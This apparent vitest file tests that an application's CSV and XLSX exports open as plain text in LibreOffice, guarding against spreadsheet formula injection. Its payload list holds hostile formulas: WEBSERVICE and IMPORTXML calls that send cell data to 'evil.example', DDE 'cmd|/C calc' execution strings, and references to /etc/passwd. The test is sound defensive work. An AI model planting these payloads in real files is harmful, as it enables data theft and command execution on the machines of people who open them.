import { execFileSync, spawnSync } from 'node:child_process'
import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { buffer } from 'node:stream/consumers'
import { beforeAll, expect, test } from 'vitest'
import { csvFile } from '../../server/platform/tables/written/csv-file.ts'
import type { ExportTable } from '../../server/platform/tables/written/export-table.ts'
import { xlsxFile } from '../../server/platform/tables/written/xlsx-file.ts'
import { installPackages } from '../support/debian-package.ts'
import { unzip } from '../support/unzip.ts'

beforeAll(() => {
  if (spawnSync('soffice', ['--version']).error) installPackages('libreoffice-calc')
}, 600_000)

const signs = [
  '=',
  '+',
  '-',
  '@',
  '\t=',
  '\r=',
  '\n=',
  '＝',
  '＋',
  '－',
  '＠',
  ' =',
  '\u00A0=',
  '\u200B=',
  '\uFEFF=',
]
const acts = [
  '1+1',
  'SUM(1;2)',
  'HYPERLINK("http://evil.example";"Click")',
  `cmd|' /C calc'!A0`,
  'WEBSERVICE("http://evil.example/"&A1)',
  'IMPORTXML("http://evil.example","//a")',
  'DDE("soffice";"/etc/passwd";"Sheet1.A1")',
  `'file:///etc/passwd'#$passwd.A1`,
  '2+5+cmd|"/C calc"!A0',
  'NOW()',
  'A1',
  '1E+3',
  'TRUE()',
  '[1,2]',
  'INDIRECT("A"&1)',
  'RAND()',
  '0x1F',
  '"&A1&"',
  ',=1+1',
  '\n=2+2',
  '\t=2+2',
  '{=1+1}',
  '(1+1)',
  '-1',
  '+1',
  '@SUM(1)',
  '=1+1',
  'ẞ()',
  '$A$1',
  'A1:B2',
  '1;2',
  "1+1'",
  '%0A=1+1',
  'T(1)',
]
/** At least 500: each sign with each act. */
const payloads = signs.flatMap(sign => acts.map(act => sign + act))

function table(): ExportTable<string[]> {
  async function* chunks() {
    yield payloads.map((payload, nth) => [String(nth), payload])
  }
  const cell = (index: number) => (row: string[]) => row[index] ?? ''
  return {
    columns: [
      { title: 'Number', type: 'number', cell: cell(0) },
      { title: 'Payload', cell: cell(1) },
    ],
    chunks: chunks(),
    zone: 'UTC',
    closing: () => 'The end',
  }
}

/** Opens a file in LibreOffice and stores it as ODS, in which a cell says what it holds. @returns the XML of its cells */
async function openedCells(name: string, bytes: Buffer): Promise<string[]> {
  const folder = await mkdtemp(join(tmpdir(), 'bursary-formulas-'))
  try {
    await writeFile(join(folder, name), bytes)
    // As its window opens a CSV: commas, UTF-8, and formulas are evaluated where there are some.
    const asCsv = name.endsWith('.csv') ? ['--infilter=CSV:44,34,76,1,,0,false,true,false,true'] : []
    const profile = `-env:UserInstallation=file://${folder}/profile`
    const words = [
      profile,
      '--headless',
      ...asCsv,
      '--convert-to',
      'ods',
      '--outdir',
      folder,
      join(folder, name),
    ]
    execFileSync('soffice', words, { stdio: 'ignore', timeout: 300_000 })
    const ods = unzip(await readFile(join(folder, name.replace(/\w+$/, 'ods'))))
    const content = ods.get('content.xml')?.toString() ?? ''
    return content.match(/<table:table-cell[^>]*>/g) ?? []
  } finally {
    await rm(folder, { recursive: true, force: true })
  }
}

test.each(['csv', 'xlsx'] as const)(
  `[AUDIT2] ${payloads.length} formulas open as text in LibreOffice from a %s`,
  async format => {
    expect(payloads.length).toBeGreaterThanOrEqual(500)
    const bytes = await buffer(format === 'csv' ? csvFile(table()) : xlsxFile(table()))
    const cells = await openedCells(`export.${format}`, bytes)
    expect(cells.filter(cell => cell.includes('table:formula'))).toEqual([])
    const texts = cells.filter(cell => cell.includes('office:value-type="string"'))
    // Every payload, the titles, and the last line.
    expect(texts).toHaveLength(payloads.length + 3)
  },
  600_000,
)
